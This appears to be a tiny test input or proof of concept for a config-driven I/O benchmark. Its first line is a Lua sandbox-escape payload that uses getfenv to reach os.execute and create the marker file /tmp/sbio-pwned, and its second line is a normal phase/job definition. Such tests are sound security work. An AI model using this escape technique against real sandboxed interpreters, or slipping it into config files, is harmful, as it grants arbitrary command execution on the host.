getfenv(option).os.execute('touch /tmp/sbio-pwned')
phase "p" { events = 8, job "j" { mix = { read = 1 } } }
